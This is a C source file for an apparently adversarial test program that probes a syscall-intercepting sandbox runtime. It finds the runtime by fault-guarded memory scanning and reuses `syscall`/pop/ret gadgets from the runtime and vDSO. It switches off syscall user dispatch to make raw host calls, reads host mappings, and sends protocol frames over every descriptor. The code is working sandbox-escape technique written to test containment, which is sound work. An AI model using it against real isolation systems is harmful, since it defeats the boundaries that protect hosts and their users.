/* A hostile program under a genuine runtime. It looks for the runtime in its own address space, makes host calls
 * through the runtime's text, from its own, and through the vDSO, and asks whatever it finds for evidence.
 *
 * Commands come by standard input, one a line; messages are frames of the real protocols, in hex:
 *   channel FRAME             ask on every descriptor of container and host
 *   las SOCKET FRAME IMAGE    connect to the LAS as anybody may, and have it start IMAGE
 * Started as an image itself (`as-instance FRAME`), it asks on the channel that the LAS gave it. Started as
 * `call runtime|own NUMBER` it makes one host call without arguments, from the runtime's text or from its own.
 */
#include "report.h"
#include <elf.h>
#include <fcntl.h>
#include <poll.h>
#include <setjmp.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>

/* far(target, pops, call): jumps to a `syscall` instruction that is followed by that many pops and a return. */
__asm__(".text\n"
        "far:\n"
        "  push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
        "  lea 1f(%rip), %rax\n"
        "  push %rax\n"
        "2: test %rsi, %rsi\n"
        "  jz 3f\n"
        "  push $0\n"
        "  dec %rsi\n"
        "  jmp 2b\n"
        "3: mov %rdi, %r11\n"
        "  mov %rdx, %rcx\n"
        "  mov (%rcx), %rax\n"
        "  mov 8(%rcx), %rdi\n"
        "  mov 16(%rcx), %rsi\n"
        "  mov 24(%rcx), %rdx\n"
        "  mov 32(%rcx), %r10\n"
        "  mov 40(%rcx), %r8\n"
        "  mov 48(%rcx), %r9\n"
        "  jmp *%r11\n"
        "1: pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n"
        "  ret\n");
long far(uintptr_t target, long pops, const long *call);

/* A place where a `syscall` instruction is. */
struct way {
    const char *name;
    uintptr_t target;
    long pops;
};

static long host(const struct way *way, long number, long a, long b, long c, long d, long e, long f)
{
    const long call[] = {number, a, b, c, d, e, f};
    return far(way->target, way->pops, call);
}

static sigjmp_buf unreadable;
static void on_fault(int signal)
{
    siglongjmp(unreadable, signal);
}

static int is_readable(uintptr_t address)
{
    if (sigsetjmp(unreadable, 1))
        return 0;
    (void)*(volatile unsigned char *)address;
    return 1;
}

/* What /proc/self/maps shows is the kernel's to say. Memory itself is not: the page cache takes 8 TiB somewhere. */
static uintptr_t find_base(void)
{
    const uintptr_t tera = 1ul << 40, align = 2ul << 20;
    for (uintptr_t hit = 16 * tera; hit < 48 * tera; hit += 4 * tera) {
        if (!is_readable(hit))
            continue;
        uintptr_t low = hit - 9 * tera, high = hit;
        while (high - low > align) {
            uintptr_t middle = (low + (high - low) / 2) & ~(align - 1);
            if (is_readable(middle))
                high = middle;
            else
                low = middle;
        }
        uintptr_t base = high - tera;
        if (is_readable(base) && memcmp((void *)base, ELFMAG, SELFMAG) == 0)
            return base;
    }
    return 0;
}

/* A `syscall` followed by nothing but pops, wiped registers and a return. */
static int find_call(struct way *way, const unsigned char *start, size_t length)
{
    for (size_t i = 0; i + 2 < length; i++) {
        if (start[i] != 0x0f || start[i + 1] != 0x05)
            continue;
        size_t at = i + 2;
        long pops = 0;
        for (;;) {
            if (at + 3 < length && pops < 8 && (start[at] & 0xf8) == 0x58 && start[at] != 0x5c)
                at++, pops++;
            else if (at + 3 < length && start[at] == 0x31 && start[at + 1] >= 0xc0)
                at += 2; /* registers that a call does not keep are wiped */
            else if (at + 3 < length && start[at] == 0x45 && start[at + 1] == 0x31 && start[at + 2] >= 0xc0)
                at += 3;
            else
                break;
        }
        if (at < length && start[at] == 0xc3) {
            way->target = (uintptr_t)start + i;
            way->pops = pops;
            return 1;
        }
    }
    return 0;
}

static struct way ways[3];
static int ways_found;

/* What the host says of the runtime's own descriptor: no program should be able to ask. */
static void prove(const struct way *way)
{
    struct stat status = {0};
    long result = host(way, SYS_fstat, 5, (long)&status, 0, 0, 0, 0);
    say("way %s: host descriptor 5 has %ld bytes, result %ld", way->name, (long)status.st_size, result);
}

static void find_runtime(void)
{
    struct sigaction action = {.sa_handler = on_fault, .sa_flags = SA_NODEFER};
    sigaction(SIGSEGV, &action, NULL);
    sigaction(SIGBUS, &action, NULL);
    uintptr_t base = find_base();
    say("the runtime is %s", base ? "found" : "not found");
    if (!base)
        return;
    const Elf64_Ehdr *header = (void *)base;
    const Elf64_Phdr *segment = (void *)(base + header->e_phoff);
    uintptr_t text = 0, length = 0;
    for (int i = 0; i < header->e_phnum; i++)
        if (segment[i].p_type == PT_LOAD && segment[i].p_flags & PF_X)
            text = segment[i].p_vaddr, length = segment[i].p_memsz;
    struct way *way = &ways[ways_found];
    way->name = "runtime's text";
    if (!find_call(way, (void *)text, length)) {
        say("no call in the runtime's text");
        return;
    }
    ways_found++;
}

static void find_vdso(const struct way *first)
{
    /* The host's own list of mappings says where its vDSO is. */
    static char maps[1 << 16];
    long fd = host(first, SYS_openat, AT_FDCWD, (long)"/proc/self/maps", O_RDONLY, 0, 0, 0), total = 0, got;
    while ((got = host(first, SYS_read, fd, (long)maps + total, sizeof maps - 1 - total, 0, 0, 0)) > 0)
        total += got;
    host(first, SYS_close, fd, 0, 0, 0, 0, 0);
    char *line = strstr(maps, "[vdso]");
    unsigned long start = 0, end = 0;
    while (line && line > maps && line[-1] != '\n')
        line--;
    if (line && sscanf(line, "%lx-%lx", &start, &end) == 2) {
        struct way *way = &ways[ways_found];
        way->name = "vDSO";
        if (find_call(way, (void *)start, end - start)) {
            prove(way);
            ways_found++;
        } else {
            say("way vDSO: no call that returns");
        }
    }
}

static void find_own(const struct way *first)
{
    /* Switch the dispatch of system calls off, and make them from memory of our own. */
    unsigned char *own = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    memcpy(own, (unsigned char[]){0x0f, 0x05, 0xc3}, 3);
    long off = host(first, SYS_prctl, PR_SET_SYSCALL_USER_DISPATCH, PR_SYS_DISPATCH_OFF, 0, 0, 0, 0);
    say("dispatch switched off: %ld", off);
    ways[ways_found++] = (struct way){"own text", (uintptr_t)own, 0};
}

static void find_ways(void)
{
    find_runtime();
    if (!ways_found)
        return;
    prove(&ways[0]);
    find_vdso(&ways[0]);
    find_own(&ways[0]);
    prove(&ways[ways_found - 1]);
}

static int call_once(int from_own, long number)
{
    find_runtime();
    if (!ways_found)
        return 1;
    if (from_own)
        find_own(&ways[0]);
    say("calls");
    say("the host answers %ld", host(&ways[ways_found - 1], number, 0, 0, 0, 0, 0, 0));
    return 0;
}

static unsigned char frame[1 << 20];

static size_t from_hex(const char *hex)
{
    size_t length = 0;
    unsigned byte;
    while (length < sizeof frame && sscanf(hex + 2 * length, "%2x", &byte) == 1)
        frame[length++] = byte;
    return length;
}

static void print_hex(const char *what, const unsigned char *bytes, size_t length)
{
    printf("%s ", what);
    for (size_t i = 0; i < length; i++)
        printf("%02x", bytes[i]);
    putchar('\n');
    fflush(stdout);
}

static unsigned char reply[1 << 20];

/* One frame of a peer, the prefix included; 0 when none comes within three seconds. `way` is NULL for plain calls. */
static size_t receive(const struct way *way, long fd)
{
    size_t have = 0, wanted = 4;
    while (have < wanted && wanted <= sizeof reply) {
        struct pollfd poll_one = {fd, POLLIN, 0};
        struct timespec patience = {3, 0};
        long ready = way ? host(way, SYS_ppoll, (long)&poll_one, 1, (long)&patience, 0, 8, 0) : ppoll(&poll_one, 1, &patience, NULL);
        if (ready <= 0)
            break;
        long got = way ? host(way, SYS_recvfrom, fd, (long)reply + have, wanted - have, MSG_DONTWAIT, 0, 0)
                       : recv(fd, reply + have, wanted - have, MSG_DONTWAIT);
        if (got <= 0)
            break;
        have += got;
        if (have == 4) {
            uint32_t length;
            memcpy(&length, reply, 4);
            wanted = 4 + (size_t)length;
        }
    }
    return have == wanted ? have : 0;
}

/* Asks on every descriptor; by plain calls, which the kernel answers, where `way` is NULL. */
static void ask_all(const struct way *way, size_t length)
{
    const char *name = way ? way->name : "kernel";
    int asked = 0, answered = 0;
    for (long fd = 3; fd <= 1024; fd++) {
        long sent = way ? host(way, SYS_sendto, fd, (long)frame, length, MSG_NOSIGNAL | MSG_DONTWAIT, 0, 0)
                        : send(fd, frame, length, MSG_NOSIGNAL | MSG_DONTWAIT);
        int error = way ? (int)-sent : errno;
        if (fd == 3)
            say("%s: descriptor 3: %s", name, sent >= 0 ? "sent" : strerrorname_np(error));
        if (!way && sent < 0 && error == ENOTSOCK)
            sent = write(fd, frame, length);
        if (sent < 0)
            continue;
        asked++;
        size_t got = receive(way, fd);
        if (got) {
            answered++;
            print_hex("answer", reply, got);
        }
    }
    say("%s: %d asked, %d answered", name, asked, answered);
}

static void las(char *arguments)
{
    const struct way *way = &ways[0];
    char *socket_path = strtok(arguments, " "), *hex = strtok(NULL, " "), *image_path = strtok(NULL, " \n");
    if (!image_path || !ways_found) {
        say("las: nothing to do it with");
        return;
    }
    size_t length = from_hex(hex);
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strncpy(address.sun_path, socket_path, sizeof address.sun_path - 1);
    long image = host(way, SYS_openat, AT_FDCWD, (long)image_path, O_RDONLY, 0, 0, 0);
    long fd = host(way, SYS_socket, AF_UNIX, SOCK_STREAM, 0, 0, 0, 0);
    long connected = host(way, SYS_connect, fd, (long)&address, sizeof address, 0, 0, 0);
    say("las: image %s, connected %ld", image >= 0 ? "opened" : strerrorname_np((int)-image), connected);
    if (image < 0 || connected < 0)
        return;
    int passed[] = {(int)image, 0, 1, 2};
    char control[CMSG_SPACE(sizeof passed)] = {0};
    struct iovec piece = {frame, length};
    struct msghdr message = {.msg_iov = &piece, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET;
    head->cmsg_type = SCM_RIGHTS;
    head->cmsg_len = CMSG_LEN(sizeof passed);
    memcpy(CMSG_DATA(head), passed, sizeof passed);
    long sent = host(way, SYS_sendmsg, fd, (long)&message, 0, 0, 0, 0);
    say("las: sent %d", sent == (long)length);
    size_t got;
    while ((got = receive(way, fd)))
        print_hex("las", reply, got);
    say("las: closed");
}

static int as_instance(const char *hex)
{
    size_t got = receive(NULL, 3);
    print_hex("hello", reply, got);
    size_t length = from_hex(hex);
    if (send(3, frame, length, MSG_NOSIGNAL) != (ssize_t)length)
        return 1;
    got = receive(NULL, 3);
    print_hex("answer", reply, got);
    return got ? 0 : 1;
}

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "as-instance") == 0)
        return as_instance(argv[2]);
    if (argc == 4 && strcmp(argv[1], "call") == 0)
        return call_once(strcmp(argv[2], "own") == 0, atol(argv[3]));
    static char line[1 << 20];
    find_ways();
    say("ready");
    while (fgets(line, sizeof line, stdin)) {
        if (strncmp(line, "channel ", 8) == 0) {
            size_t length = from_hex(line + 8);
            ask_all(NULL, length);
            for (int i = 0; i < ways_found; i++)
                ask_all(&ways[i], length);
        } else if (strncmp(line, "las ", 4) == 0) {
            las(line + 4);
        }
        say("done");
    }
    return 0;
}
